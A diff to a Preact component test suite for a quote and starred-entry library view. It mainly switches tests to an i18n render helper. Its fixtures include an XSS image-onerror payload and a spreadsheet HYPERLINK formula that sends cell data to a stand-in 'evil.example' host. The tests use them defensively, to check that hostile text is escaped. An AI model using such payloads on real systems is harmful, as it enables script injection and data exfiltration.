@@ -1,12 +1,13 @@
 // @vitest-environment happy-dom
 // The library view (presentational): both lists with who/when/where and links, page text drawn as
 // text, windowing of a 10,000-row list, keyboard movement between rows, and no axe violations.
-import { cleanup, fireEvent, render, screen, within } from '@testing-library/preact';
+import { cleanup, fireEvent, screen, within } from '@testing-library/preact';
 import { afterEach, describe, expect, it, vi } from 'vitest';
 import { LibraryApp } from '../../../components/library/LibraryApp';
 import { quoteItems, starredItems } from '../../../lib/library/items';
 import { BUDGET, sampleSnapshot, UKRAINE } from '../../unit/export/sample';
 import { appProps, expectNoAxeViolations } from './helpers';
+import { renderT } from '../../helpers/i18n';
 
 afterEach(cleanup);
 
@@ -15,14 +16,15 @@ const starred = () => starredItems(sampleSnapshot());
 
 describe('LibraryApp', () => {
   it('shows each quote with its speaker, entry time, blog title and site, newest first', () => {
-    render(<LibraryApp {...appProps(quotes())} />);
+    renderT(<LibraryApp {...appProps(quotes())} />);
     const list = screen.getByRole('list', { name: 'Quotes' });
     const rows = within(list).getAllByRole('listitem');
     expect(rows).toHaveLength(6);
     expect(rows[0]!.textContent).toContain('No comment at this time.');
     const reeves = rows.find((r) => r.textContent!.includes('Growth is up'))!;
     expect(reeves.textContent).toContain('Rachel Reeves');
-    expect(reeves.textContent).toContain('Tue 2 Jan 2024, 13:30');
+    // The entry's time in UTC (the props' zone), as the reader's locale writes it.
+    expect(reeves.textContent).toMatch(/Jan 2, 2024, 1:30\sPM/);
     expect(reeves.textContent).toContain('Budget 2024 – live updates');
     expect(reeves.textContent).toContain('(bbc)');
     expect(within(reeves).getByRole('link', { name: /Open entry/ }).getAttribute('href')).toBe(`${BUDGET}#post-7`);
@@ -30,7 +32,7 @@ describe('LibraryApp', () => {
   });
 
   it('draws hostile page text as text, never as markup', () => {
-    const { container } = render(<LibraryApp {...appProps(quotes())} />);
+    const { container } = renderT(<LibraryApp {...appProps(quotes())} />);
     expect(container.querySelector('img')).toBeNull();
     expect(screen.getByText(/<img src=x onerror=alert\(1\)>/)).toBeTruthy();
     for (const a of Array.from(container.querySelectorAll('a'))) expect(a.getAttribute('href')).toMatch(/^https:\/\//);
@@ -38,7 +40,7 @@ describe('LibraryApp', () => {
 
   it('shows starred entries with title, text, speakers and a link, and offers unstar', () => {
     const onDelete = vi.fn();
-    render(<LibraryApp {...appProps(starred(), { view: 'starred', onDelete })} />);
+    renderT(<LibraryApp {...appProps(starred(), { view: 'starred', onDelete })} />);
     const list = screen.getByRole('list', { name: 'Starred entries' });
     const rows = within(list).getAllByRole('listitem');
     expect(rows).toHaveLength(2);
@@ -51,7 +53,7 @@ describe('LibraryApp', () => {
 
   it('edits a quote speaker and note through a labelled form; Escape cancels', () => {
     const onEditQuote = vi.fn();
-    render(<LibraryApp {...appProps(quotes(), { onEditQuote })} />);
+    renderT(<LibraryApp {...appProps(quotes(), { onEditQuote })} />);
     fireEvent.click(screen.getByRole('button', { name: 'Edit quote: Growth is up, and inflation is down to 2%.' }));
     const form = within(screen.getByRole('form', { name: 'Edit quote' }));
     fireEvent.input(form.getByLabelText('Speaker'), { target: { value: '  Jeremy Hunt ' } });
@@ -67,7 +69,7 @@ describe('LibraryApp', () => {
     const onDelete = vi.fn();
     const onSelect = vi.fn();
     const selected = new Set(['q-reeves-01', 'q-starmer-1']);
-    render(<LibraryApp {...appProps(quotes(), { selected, onDelete, onSelect })} />);
+    renderT(<LibraryApp {...appProps(quotes(), { selected, onDelete, onSelect })} />);
     expect(screen.getByText('2 selected')).toBeTruthy();
     expect((screen.getByRole('checkbox', { name: /Select quote: Growth is up/ }) as HTMLInputElement).checked).toBe(true);
     fireEvent.click(screen.getByRole('checkbox', { name: /Select quote: No comment/ }));
@@ -77,7 +79,7 @@ describe('LibraryApp', () => {
   });
 
   it('lists filter options with their counts', () => {
-    render(<LibraryApp {...appProps(quotes())} />);
+    renderT(<LibraryApp {...appProps(quotes())} />);
     const speaker = screen.getByLabelText('Speaker') as HTMLSelectElement;
     expect(Array.from(speaker.options, (o) => o.textContent)).toEqual([
       'All speakers (6)', 'Keir Starmer (2)', '=HYPERLINK("http://evil.example/?"&A1) (1)', 'Emmanuel Macrón (1)', 'No speaker (1)', 'Rachel Reeves (1)',
@@ -87,7 +89,7 @@ describe('LibraryApp', () => {
 
   it('shows the undo notice and the import report', () => {
     const onUndo = vi.fn();
-    render(
+    renderT(
       <LibraryApp
         {...appProps(quotes(), {
           undo: { message: 'Deleted 2 quotes.' },
@@ -106,7 +108,7 @@ describe('LibraryApp', () => {
   });
 
   it('says an import is under way while it runs', () => {
-    render(<LibraryApp {...appProps(quotes(), { importOutcome: { fileName: 'big.json', busy: true } })} />);
+    renderT(<LibraryApp {...appProps(quotes(), { importOutcome: { fileName: 'big.json', busy: true } })} />);
     const report = screen.getByRole('status', { name: 'Import result' });
     expect(report.textContent).toContain('Importing…');
     expect(within(report).queryByRole('button')).toBeNull();
@@ -116,7 +118,7 @@ describe('LibraryApp', () => {
     const base = quotes();
     const many = Array.from({ length: 10_000 }, (_, i) => ({ ...base[i % base.length]!, key: `q-many-${i}` }));
     const started = performance.now();
-    render(<LibraryApp {...appProps(many)} />);
+    renderT(<LibraryApp {...appProps(many)} />);
     const ms = performance.now() - started;
     const rows = within(screen.getByRole('list', { name: 'Quotes' })).getAllByRole('listitem');
     expect(rows.length).toBeGreaterThan(5);
@@ -128,7 +130,7 @@ describe('LibraryApp', () => {
   it('moves between rows with the arrow keys, Home and End (one tab stop for the list)', () => {
     const base = quotes();
     const many = Array.from({ length: 1_000 }, (_, i) => ({ ...base[i % base.length]!, key: `q-many-${i}` }));
-    render(<LibraryApp {...appProps(many)} />);
+    renderT(<LibraryApp {...appProps(many)} />);
     const list = screen.getByRole('list', { name: 'Quotes' });
     const first = list.querySelector<HTMLElement>('[data-index="0"]')!;
     expect(first.tabIndex).toBe(0);
@@ -143,7 +145,7 @@ describe('LibraryApp', () => {
   });
 
   it('has no axe violations: quotes, starred, editing, empty, with notices', async () => {
-    const { container, rerender } = render(<LibraryApp {...appProps(quotes(), { selected: new Set(['q-reeves-01']), undo: { message: 'Deleted 1 quote.' } })} />);
+    const { container, rerender } = renderT(<LibraryApp {...appProps(quotes(), { selected: new Set(['q-reeves-01']), undo: { message: 'Deleted 1 quote.' } })} />);
     fireEvent.click(screen.getByRole('button', { name: /Edit quote: Growth/ }));
     await expectNoAxeViolations(container);
     rerender(<LibraryApp {...appProps(starred(), { view: 'starred' })} />);
